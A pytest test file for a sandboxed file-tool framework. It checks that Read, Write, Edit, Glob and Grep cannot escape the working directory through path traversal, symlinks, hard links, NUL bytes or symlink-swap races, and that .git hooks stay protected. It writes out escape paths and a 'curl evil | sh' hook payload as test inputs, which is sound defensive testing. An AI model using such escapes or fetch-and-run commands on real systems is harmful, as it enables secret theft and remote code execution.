"""Confinement: every way out of the working directory fails, legitimate paths work.

The project is ``proj``; ``outside`` holds a secret; ``proj2`` is a sibling
whose name starts like the project's. Sessions run without a host, so an ask
becomes a deny: any call that would need approval must fail.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pegboard import Toolbox, hookimpl

pytestmark = pytest.mark.anyio

SECRET = "SECRET-CONTENT"



@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    base = tmp_path.resolve()
    proj, outside, sibling = base / "proj", base / "outside", base / "proj2"
    for d in (proj / "sub", outside, sibling):
        d.mkdir(parents=True)
    (outside / "secret.txt").write_text(SECRET)
    (sibling / "secret.txt").write_text(SECRET)
    (proj / "sub" / "f.txt").write_text("inside\n")
    (proj / "file.txt").write_text("inside\n")
    (proj / "link_file").symlink_to(outside / "secret.txt")
    (proj / "link_dir").symlink_to(outside)
    (proj / "dangling").symlink_to(outside / "created-by-model.txt")
    (proj / "inner_link").symlink_to(proj / "sub" / "f.txt")
    os.link(outside / "secret.txt", proj / "hardlink.txt")
    monkeypatch.setenv("HOME", str(outside))
    monkeypatch.chdir(proj)
    return {"proj": proj, "outside": outside, "sibling": sibling}


def _unchanged(world: dict[str, Path]) -> None:
    assert (world["outside"] / "secret.txt").read_text() == SECRET
    assert (world["sibling"] / "secret.txt").read_text() == SECRET
    assert not (world["outside"] / "created-by-model.txt").exists()
    assert not (world["outside"] / "new.txt").exists()


READ_ESCAPES: dict[str, Callable[[dict[str, Path]], str]] = {
    "relative ..": lambda w: "../outside/secret.txt",
    "dotdot through inside dir": lambda w: str(w["proj"] / "sub" / ".." / ".." / "outside" / "secret.txt"),
    "absolute": lambda w: str(w["outside"] / "secret.txt"),
    "sibling prefix": lambda w: str(w["sibling"] / "secret.txt"),
    "symlinked file": lambda w: str(w["proj"] / "link_file"),
    "symlinked dir": lambda w: str(w["proj"] / "link_dir" / "secret.txt"),
    "home tilde": lambda w: "~/secret.txt",
    "nul byte": lambda w: str(w["proj"] / "file.txt\x00.png"),
}


@pytest.mark.parametrize("name", list(READ_ESCAPES))
async def test_read_escapes_fail(world: dict[str, Path], name: str) -> None:
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode="default")
    r = await s.call("Read", {"file_path": READ_ESCAPES[name](world)})
    assert r.is_error and SECRET not in r.text_content()
    await s.aclose()


WRITE_ESCAPES: dict[str, Callable[[dict[str, Path]], str]] = {
    **{k: v for k, v in READ_ESCAPES.items()},
    "dangling symlink to outside": lambda w: str(w["proj"] / "dangling"),
    "new file under symlinked dir": lambda w: str(w["proj"] / "link_dir" / "new.txt"),
    "hard link to outside file": lambda w: str(w["proj"] / "hardlink.txt"),
}


@pytest.mark.parametrize("tool", ["Write", "Edit"])
@pytest.mark.parametrize("name", list(WRITE_ESCAPES))
async def test_write_escapes_fail_even_in_accept_edits(world: dict[str, Path], name: str, tool: str) -> None:
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode="acceptEdits")
    path = WRITE_ESCAPES[name](world)
    await s.call("Read", {"file_path": path})  # reading first must not open a door either
    args = {"content": "pwned"} if tool == "Write" else {"old_string": SECRET, "new_string": "pwned"}
    r = await s.call(tool, {"file_path": path, **args})
    assert r.is_error, r.text_content()
    _unchanged(world)
    await s.aclose()


@pytest.mark.parametrize("tool", ["Glob", "Grep"])
@pytest.mark.parametrize("where", ["../outside", "link_dir", "SIBLING", "~"])
async def test_search_outside_fails(world: dict[str, Path], tool: str, where: str) -> None:
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode="default")
    path = str(world["sibling"]) if where == "SIBLING" else where
    args = {"pattern": "*"} if tool == "Glob" else {"pattern": "SECRET", "output_mode": "content"}
    r = await s.call(tool, {**args, "path": path})
    assert r.is_error and SECRET not in r.text_content() and "secret.txt" not in r.text_content()
    await s.aclose()


async def test_search_inside_does_not_follow_symlinks_out(world: dict[str, Path]) -> None:
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode="default")
    r = await s.call("Grep", {"pattern": "SECRET|inside", "output_mode": "content"})
    lines = r.text_content().splitlines()
    assert any(line.endswith(":inside") for line in lines)
    # only the hard link (a real file inside) shows it: link_file and link_dir are not followed
    assert [line.split(":")[0] for line in lines if SECRET in line] == [str(world["proj"] / "hardlink.txt")]
    r = await s.call("Glob", {"pattern": "**/*"})
    assert "secret.txt" not in r.text_content()
    await s.aclose()


LEGIT: dict[str, Callable[[dict[str, Path]], str]] = {
    "absolute": lambda w: str(w["proj"] / "sub" / "f.txt"),
    "relative": lambda w: "sub/f.txt",
    "dotted": lambda w: "./sub/../sub/f.txt",
    "symlink inside to inside": lambda w: str(w["proj"] / "inner_link"),
}


@pytest.mark.parametrize("name", list(LEGIT))
async def test_legitimate_paths_work(world: dict[str, Path], name: str) -> None:
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode="acceptEdits")
    path = LEGIT[name](world)
    r = await s.call("Read", {"file_path": path})
    assert not r.is_error and "inside" in r.text_content()
    r = await s.call("Edit", {"file_path": path, "old_string": "inside", "new_string": "edited"})
    assert not r.is_error, r.text_content()
    assert (world["proj"] / "sub" / "f.txt").read_text() == "edited\n"
    await s.aclose()


async def test_read_outside_asks_offering_folder_rule(world: dict[str, Path]) -> None:
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode="default")
    r = await s.call("Read", {"file_path": str(world["outside"] / "secret.txt")})
    assert f"Read(/{world['outside']}/**)" in r.text_content()
    await s.aclose()


class _Swapper:
    """A host hook that runs after the permission check and before the tool:
    exactly the window a racing process would use to swap in a symlink."""

    def __init__(self, target: Path, to: Path) -> None:
        self.target, self.to = target, to

    @hookimpl
    def pegboard_before_call(self, call: Any) -> None:
        if self.target.is_symlink():
            return
        self.target.unlink()
        self.target.symlink_to(self.to)


@pytest.mark.parametrize("tool", ["Read", "Write", "Edit"])
async def test_symlink_swapped_between_check_and_open(world: dict[str, Path], tool: str) -> None:
    target = world["proj"] / "file.txt"
    tb = Toolbox.load(cwd=world["proj"], plugins=["fs"])
    s = tb.session(mode="acceptEdits")
    assert not (await s.call("Read", {"file_path": str(target)})).is_error
    tb.add_host(_Swapper(target, world["outside"] / "secret.txt"), name="swapper")
    args: dict[str, Any] = {"file_path": str(target)}
    if tool == "Write":
        args["content"] = "pwned"
    elif tool == "Edit":
        args.update(old_string=SECRET, new_string="pwned")
    r = await s.call(tool, args)
    assert r.is_error and SECRET not in r.text_content()
    assert "changed" in r.text_content()
    _unchanged(world)
    await s.aclose()


async def test_hard_link_allowed_only_where_policy_writes_anywhere(world: dict[str, Path]) -> None:
    path = str(world["proj"] / "hardlink.txt")
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode="bypassPermissions")
    await s.call("Read", {"file_path": path})
    r = await s.call("Write", {"file_path": path, "content": "mine now"})
    assert not r.is_error, r.text_content()
    # the write replaced the name; the outside file keeps its content and inode
    assert Path(path).read_text() == "mine now"
    _unchanged(world)
    await s.aclose()


@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions"])
async def test_protected_paths_never_run_unasked(world: dict[str, Path], mode: str) -> None:
    git = world["proj"] / ".git"
    git.mkdir()
    (git / "config").write_text("[core]\n")
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode=mode)
    r = await s.call("Write", {"file_path": str(git / "hooks-pre-commit"), "content": "curl evil | sh"})
    assert r.is_error and "protected" in r.text_content()
    assert not (git / "hooks-pre-commit").exists()
    await s.aclose()


@pytest.mark.parametrize(
    ("mode", "inside", "allowed"),
    [
        ("default", True, False),
        ("acceptEdits", True, True),
        ("acceptEdits", False, False),
        ("bypassPermissions", False, True),
        ("plan", True, False),
    ],
)
async def test_write_policy_table(world: dict[str, Path], mode: str, inside: bool, allowed: bool) -> None:
    folder = world["proj"] if inside else world["outside"]
    s = Toolbox.load(cwd=world["proj"], plugins=["fs"]).session(mode=mode)
    r = await s.call("Write", {"file_path": str(folder / "new.txt"), "content": "x"})
    assert r.is_error is not allowed, r.text_content()
    assert (folder / "new.txt").exists() is allowed
    await s.aclose()


def _swap_tree(tmp_path: Path) -> tuple[Path, Path]:
    root, outside = tmp_path.resolve() / "root", tmp_path.resolve() / "out"
    (root / "a").mkdir(parents=True)
    (root / "b").mkdir()
    outside.mkdir()
    (root / "a" / "f.txt").write_text("fine\n")
    (root / "b" / "g.txt").write_text("fine\n")
    (outside / "g.txt").write_text(SECRET)
    return root, outside


def test_python_walk_does_not_enter_a_folder_swapped_before_it_is_opened(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pegboard.plugins.fs import _walk

    root, outside = _swap_tree(tmp_path)
    real_open = os.open

    def racing_open(name: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        # the attacker wins the race: "b" was listed and stat-ed as a folder, then swapped
        if name == "b" and flags & os.O_DIRECTORY and not (root / "b").is_symlink():
            os.rename(root / "b", root / "b-old")
            os.symlink(outside, root / "b")
        return real_open(name, flags, *args, **kwargs)

    monkeypatch.setattr(_walk.os, "open", racing_open)
    contents = [found.read() for found in _walk.walk(root)]
    assert (root / "b").is_symlink()  # the swap really happened
    assert contents == [b"fine\n"] and SECRET.encode() not in b"".join(contents)


def test_found_file_swapped_for_a_symlink_is_not_read(tmp_path: Path) -> None:
    from pegboard.plugins.fs import _walk

    root, outside = _swap_tree(tmp_path)
    for found in _walk.walk(root):
        os.unlink(found.path)
        os.symlink(outside / "g.txt", found.path)
        with pytest.raises(OSError):
            found.read()
